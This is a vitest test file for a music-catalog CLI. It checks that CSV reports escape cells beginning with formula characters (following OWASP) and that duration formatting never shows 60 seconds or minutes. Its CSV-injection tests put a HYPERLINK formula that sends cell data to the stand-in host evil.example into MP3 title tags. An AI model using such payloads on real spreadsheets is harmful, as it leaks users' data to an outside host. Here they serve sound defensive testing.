// Issue 7, items 10 and 13 ("1 min 60 s"): what the report says.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { csvCell, formatDuration, scanCsv } from '../../packages/node/src/report.js'
import type { ScanResult } from '../../packages/node/src/scan.js'
import { FIXTURES, cli, makeWorld } from './support.js'

/** An ID3v2.3 tag with these text frames (TIT2 title, TPE1 artist, …), ISO-8859-1 text. */
function id3(frames: Record<string, string>): Buffer {
  const body = Buffer.concat(Object.entries(frames).map(([id, text]) => {
    const data = Buffer.concat([Buffer.from([0]), Buffer.from(text, 'latin1')])
    const h = Buffer.alloc(10)
    h.write(id, 0, 'latin1'); h.writeUInt32BE(data.length, 4)
    return Buffer.concat([h, data])
  }))
  const n = body.length
  const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, (n >> 21) & 127, (n >> 14) & 127, (n >> 7) & 127, n & 127])
  return Buffer.concat([header, body])
}

/** song-a.mp3 with its own ID3v2 tag replaced by `frames`. */
function taggedMp3(frames: Record<string, string>): Buffer {
  const mp3 = readFileSync(join(FIXTURES, 'song-a.mp3'))
  const old = 10 + ((mp3[6]! << 21) | (mp3[7]! << 14) | (mp3[8]! << 7) | mp3[9]!)
  return Buffer.concat([id3(frames), mp3.subarray(old)])
}

/** RFC 4180 rows → cells (enough for these tests: quoted cells, doubled quotes, commas). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = [], cell = '', quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') { row.push(cell); cell = '' } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = '' } else cell += c
  }
  return rows
}

describe('CSV formula injection (OWASP)', () => {
  it('quotes and prefixes with a single quote every text cell that starts with = + - @ tab or CR', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`)
    for (const s of ['+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(s)).toBe(`"'${s}"`)
    expect(csvCell('plain')).toBe('plain')
    expect(csvCell('a, "b"')).toBe('"a, ""b"""')
    expect(csvCell('a=b')).toBe('a=b')            // only the first character matters
    expect(csvCell(-1.25)).toBe('-1.25')          // a number we computed stays a number
    expect(csvCell(undefined)).toBe('')
  })

  it('writes hostile tags from a real file escaped, and reads back the original text', async () => {
    const world = makeWorld()
    const pmx = join(world.dir, 'catalog.pmx')
    expect((await cli('catalog', 'build', world.masters, '-o', pmx, '--jobs', '0')).code).toBe(0)
    const lib = join(world.dir, 'hostile')
    mkdirSync(lib)
    const title = '=HYPERLINK("http://evil.example/","click")'
    writeFileSync(join(lib, 'song.mp3'), taggedMp3({ TIT2: title, TPE1: '@evil', TALB: '-2+3' }))
    const report = join(world.dir, 'report.csv')
    const r = await cli('scan', lib, '--catalog', pmx, '--no-cache', '--jobs', '0', '--report', report)
    expect(r.code, r.err).toBe(0)
    const text = readFileSync(report, 'utf8')
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/"",""click"")"`)
    const [head, row] = parseCsv(text)
    const col = (name: string) => row![head!.indexOf(name)]
    expect(col('title')).toBe(`'${title}`)
    expect(col('artist')).toBe(`'@evil`)
    expect(col('album')).toBe(`'-2+3`)
    expect(col('status')).toBe('matched')
    // No cell of the file starts with a formula character once parsed.
    for (const cells of parseCsv(text)) for (const c of cells) expect(c).not.toMatch(/^[=+@\t\r]/)
  })

  it('leaves numbers and paths as they were', () => {
    const r = {
      files: [{ path: '/m/a.mp3', sizeBytes: 10, status: 'matched', cached: false, offsetSeconds: -1.5, tags: { title: 'Fine' } }],
      summary: {}, interrupted: false, warnings: [],
    } as unknown as ScanResult
    const [head, row] = parseCsv(scanCsv(r))
    expect(row![head!.indexOf('offsetSeconds')]).toBe('-1.5')
    expect(row![head!.indexOf('path')]).toBe('/m/a.mp3')
    expect(row![head!.indexOf('title')]).toBe('Fine')
  })
})

describe('durations', () => {
  it('never prints 60 seconds or 60 minutes', () => {
    expect(formatDuration(119.6)).toBe('2 min 00 s')        // was "1 min 60 s"
    expect(formatDuration(59.96)).toBe('1 min 00 s')        // was "60.0 s"
    expect(formatDuration(59.94)).toBe('59.9 s')
    expect(formatDuration(3599.6)).toBe('1 h 00 min')       // was "60 min 00 s"
    expect(formatDuration(3659.5)).toBe('1 h 01 min')
    expect(formatDuration(61)).toBe('1 min 01 s')
    for (let t = 55; t < 7300; t += 0.37) expect(formatDuration(t)).not.toMatch(/\b60 (s|min)\b|60\.0 s/)
  })
})
